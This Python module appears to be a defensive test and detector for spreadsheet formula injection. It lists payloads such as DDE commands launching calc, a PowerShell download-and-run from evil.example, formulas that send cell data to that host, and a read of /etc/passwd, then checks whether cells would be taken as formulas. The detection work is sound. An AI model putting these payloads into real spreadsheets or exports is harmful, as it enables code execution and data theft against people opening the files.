"""What people have put into cells so that somebody else's program runs it, and a judge of that."""

from __future__ import annotations

import re
import unicodedata

RUN = (
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget evil.example/x)'!A1",
    '=HYPERLINK("http://evil.example?x="&A1,"Click")',
    '=IMPORTXML(CONCAT("http://evil.example?v=",CONCATENATE(A2:E2)),"//a/a10")',
    '=IMPORTDATA("http://evil.example/"&B2)',
    '=WEBSERVICE("http://evil.example/"&A1)',
    '=DDE("cmd";"/C calc";"!A0")',
    "='file:///etc/passwd'#$passwd.A1",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
    "==1+1",
    "+1+1",
    "+cmd|'/C calc'!A0",
    "-2+3",
    "-2+3+cmd|'/C calc'!A0",
    "-1",
    "- a list",
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "@SUM(A1:A9)",
    "@handle",
    "\uff1d1+1",
    "\uff0b1",
    "\uff0d1",
    "\uff20SUM(1)",
    "\ufe621",
    "\ufe631",
    "\ufe661",
    "\ufe6bSUM(1)",
    "\u22121+1",
    "\u207c1",
)
BEFORE = (
    "",
    " ",
    "   ",
    "\t",
    "\r",
    "\n",
    "\r\n",
    "\x00",
    "\x0b",
    "\u00a0",
    "\u3000",
    "\u200b",
    "\u202e",
    "\ufeff",
    '"',
    '" ',
    "“",
    ";",
    '";',
    ",",
    '","',
    "a;",
    "a,\t",
    "x|",
    "Dear all,\n\n",
    "_x000D_\r",
)
PAYLOADS = tuple(before + run for before in BEFORE for run in RUN)
UNSEEN = {"Cc", "Cf", "Zs", "Zl", "Zp"}
ENDS = re.compile('[,;|\t\r\n"“”„«»]')


def is_live(cell: str) -> bool:
    """Whether a program could take the cell, or a part of it that it makes a cell of, for a formula."""
    return any(_begins_with_a_sign(piece) for piece in ENDS.split(cell))


def _begins_with_a_sign(piece: str) -> bool:
    seen = (sign for sign in piece if unicodedata.category(sign) not in UNSEEN)
    first = next(seen, "")
    return unicodedata.normalize("NFKC", first).replace("\u2212", "-")[:1] in {"=", "+", "-", "@"}
